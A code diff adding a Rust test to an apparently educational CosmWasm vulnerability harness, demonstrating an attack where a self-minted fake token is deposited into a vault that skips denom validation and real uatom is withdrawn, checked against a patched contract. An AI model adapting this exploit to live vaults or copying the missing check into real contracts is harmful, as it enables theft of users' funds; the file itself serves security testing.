@@ -0,0 +1,74 @@
+//! Depositing a self-minted denom and withdrawing the real one
+
+use anyhow::{ensure, Result as AnyResult};
+use cosmwasm_std::{coins, Empty, Uint128};
+use cw_multi_test::{Contract, ContractWrapper};
+
+use crate::contracts::denom_validation::{
+    execute, instantiate, query, secure, ExecuteMsg, InstantiateMsg,
+};
+use crate::{ExploitSpec, Harness, ATOM, FAKE};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "denom_validation",
+    description: "Worthless denom is credited and withdrawn as uatom",
+    must_succeed: || attack(vulnerable),
+    must_fail: || attack(secure),
+    rejection: "Must send reserve token 'uatom'",
+};
+
+fn vulnerable() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(execute, instantiate, query))
+}
+
+fn secure() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(
+        secure::execute,
+        secure::instantiate,
+        secure::query,
+    ))
+}
+
+fn attack(code: fn() -> Box<dyn Contract<Empty>>) -> AnyResult<()> {
+    let mut h = Harness::new();
+    let (attacker, victim) = (h.attacker.clone(), h.victim.clone());
+
+    let vault = h.deploy(
+        code(),
+        &InstantiateMsg {
+            denom: ATOM.to_string(),
+        },
+        &[],
+        "vault",
+    )?;
+    h.execute(
+        &victim,
+        &vault,
+        &ExecuteMsg::Deposit {},
+        &coins(1_000_000, ATOM),
+    )?;
+
+    h.fund(&attacker, &coins(1_000_000, FAKE));
+    let before = h.balance(&attacker, ATOM);
+
+    h.execute(
+        &attacker,
+        &vault,
+        &ExecuteMsg::Deposit {},
+        &coins(1_000_000, FAKE),
+    )?;
+    h.execute(
+        &attacker,
+        &vault,
+        &ExecuteMsg::Withdraw {
+            amount: Uint128::new(1_000_000),
+        },
+        &[],
+    )?;
+
+    ensure!(
+        h.balance(&attacker, ATOM) > before,
+        "attacker gained no uatom"
+    );
+    Ok(())
+}